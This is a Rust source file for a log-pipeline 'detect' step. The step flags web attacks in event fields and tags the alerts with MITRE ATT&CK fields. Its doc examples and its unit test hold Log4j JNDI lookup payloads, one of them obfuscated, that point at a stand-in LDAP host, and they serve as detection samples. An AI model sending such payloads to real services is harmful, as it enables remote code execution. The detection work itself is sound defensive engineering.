//! `detect`: what is an attack in a field is written to `detections`, and the event becomes an alert.

use super::alarm::Alarm;
use super::{Context, Flow, Step};
use crate::detect::{Found, Hit, Judge, Key, Kind, Memory, Pool, write_detection};
use crate::event::{Layout, Row, Slot, Value};
use crate::limits::ROW_ARENA_BYTES_MAX;
use crate::signature::{Example, Signature};

/// What `detect` says of itself.
pub(super) static SIGNATURE: Signature = Signature {
    name: "detect",
    summary: "looks for attacks in fields; what is found goes to `detections`",
    doc: "Each detection is an object with `detector`, `class`, `rule`, `field`, `evidence`, `technique` (of MITRE ATT&CK) \
          and `score`; a field has at most one of each class. An event with a detection gets `event.kind` \"alert\" and \
          the `threat.*` fields of ECS; others stay as they were. A condition on `.detections.class` holds where it holds \
          of one of them. What kind of text a field holds is known by its ECS name (`url.query`, `url.path`, \
          `url.original`, `user_agent.original`, `http.request.referrer`, `message` …); any other is taken for one \
          value. `detect threat` looks fields up in lists. `aludel list detectors` shows them all, `aludel detect` tries one on lines.",
    form: "detect DETECTOR on .FIELD, … { OPTION = VALUE }",
    options: &[],
    examples: &[
        Example {
            title: "a lookup that Log4j would follow",
            source: "detect web_attack on .user_agent.original",
            input: r#"{"user_agent":{"original":"${${lower:J}ndi:ldap://203.0.113.9/a}"}}"#,
            result: r#"{"detections":[{"detector":"web_attack","class":"jndi","rule":"lookup","field":"user_agent.original","evidence":"${${lower:J}ndi:ldap://203.0.113.9/a}","technique":"T1190","score":100}],"event":{"kind":"alert"},"threat":{"framework":"MITRE ATT&CK","tactic":{"id":["TA0001"],"name":["Initial Access"]},"technique":{"id":["T1190"],"name":["Exploit Public-Facing Application"]}},"user_agent":{"original":"${${lower:J}ndi:ldap://203.0.113.9/a}"}}"#,
        },
        Example {
            title: "an event that others may have looked at",
            source: "set .jndi = .detections.class == \"jndi\", .least = .detections.score ?? []",
            input: r#"{"detections":[{"class":"xss","score":80},{"class":"jndi","score":100}]}"#,
            result: r#"{"detections":[{"class":"xss","score":80},{"class":"jndi","score":100}],"jndi":true,"least":[80,100]}"#,
        },
        Example {
            title: "what is no attack stays as it was",
            source: "detect web_attack on .url.query { sensitivity = high }",
            input: r#"{"url":{"query":"id=7&sort=name"}}"#,
            result: r#"{"url":{"query":"id=7&sort=name"}}"#,
        },
    ],
};

/// What a worker's detectors work with, used again for every event.
#[derive(Debug, Default)]
pub(super) struct Desk {
    pool: Pool,
    memory: Memory,
    hits: Vec<Hit>,
    found: Vec<Found>,
    /// Which field each was found in.
    fields: Vec<usize>,
}

/// `detect NAME on .FIELD, …`
pub struct Detect {
    judge: Judge,
    /// The step's number in its plan.
    number: u32,
    /// Slot, name and kind of each field.
    inputs: Box<[(Slot, Box<str>, Kind)]>,
    alarm: Alarm,
}

impl Detect {
    /// A detector on fields; `gives` are the slots of the fields that it writes, as the checker lists them, and `number`
    /// is the step's in its plan.
    pub fn new(
        layout: &Layout,
        inputs: &[Slot],
        judge: Judge,
        gives: &[Slot],
        number: u32,
    ) -> Result<Self, String> {
        let input = |slot: &Slot| {
            let path = layout.path(*slot);
            (*slot, path.into(), Kind::of_field(path))
        };
        Ok(Self { judge, number, inputs: inputs.iter().map(input).collect(), alarm: Alarm::new(gives)?.0 })
    }

    /// Writes what was found into the event.
    fn report(&self, row: &mut Row, desk: &Desk) {
        let values: Vec<_> =
            self.inputs.iter().map(|(slot, ..)| row.read(*slot).and_then(Value::span)).collect();
        let techniques = desk.found.iter().map(|found| found.class.technique);
        self.alarm.raise(row, techniques, |number, texts, out| {
            if let (Some(found), Some(input)) = (desk.found.get(number), desk.fields.get(number)) {
                let value = values[*input].map_or(&[][..], |span| texts.bytes(span));
                write_detection(found, &self.inputs[*input].1, value, out);
            }
        });
    }
}

impl Step for Detect {
    fn run(&self, row: &mut Row, cx: &mut Context<'_>) -> Flow {
        let desk = &mut cx.work.detect;
        desk.found.clear();
        desk.fields.clear();
        for (at, (slot, _, kind)) in self.inputs.iter().enumerate() {
            let Some(Value::Text(span)) = row.read(*slot) else { continue };
            let bytes = row.texts.bytes(span);
            let key = Key::new((self.number, at as u16), bytes, *kind);
            if key.as_ref().is_some_and(|key| desk.memory.knows(key)) {
                continue;
            }
            self.judge.find(bytes, *kind, &desk.pool, &mut desk.hits, &mut desk.found);
            match key {
                Some(key) if desk.found.len() == desk.fields.len() => desk.memory.keep(&key),
                _ => desk.fields.resize(desk.found.len(), at),
            }
        }
        if !desk.found.is_empty() && row.texts.derived_bytes() <= ROW_ARENA_BYTES_MAX {
            self.report(row, desk);
        }
        Flow::Next
    }
}

#[cfg(test)]
mod tests {
    use super::super::Work;
    use super::super::testing::{json, row, run};
    use super::*;
    use crate::event::Options;

    const GIVES: [&str; 7] = [
        "detections",
        "event.kind",
        "threat.framework",
        "threat.tactic.id",
        "threat.tactic.name",
        "threat.technique.id",
        "threat.technique.name",
    ];

    #[test]
    fn a_second_step_adds_to_what_the_first_found() {
        let attack = "${jndi:ldap://203.0.113.9/a}";
        let event = format!(r#"{{"url":{{"query":"x={attack}"}},"note":"{attack}"}}"#);
        let mut paths = vec!["url.query", "note"];
        paths.extend(GIVES);
        let mut row = row(&paths, &event);
        let layout = row.layout().clone();
        let slot = |path: &str| layout.slot(path).expect("named");
        let gives = GIVES.map(slot);
        let mut work = Work::default();
        for (number, path) in ["url.query", "note"].into_iter().enumerate() {
            let judge = Judge::new("web_attack", &Options::default()).expect("a detector");
            let step =
                Detect::new(&layout, &[slot(path)], judge, &gives, number as u32).expect("seven fields");
            assert_eq!(run(&step, &mut row, &mut work).0, Flow::Next);
        }
        let event: serde_json::Value = serde_json::from_str(&json(&row)).expect("json");
        let fields: Vec<_> =
            event["detections"].as_array().expect("a list").iter().map(|of| &of["field"]).collect();
        assert_eq!(fields, ["url.query", "note"]);
        assert_eq!(event["threat"]["technique"]["id"], serde_json::json!(["T1190"]));
    }
}
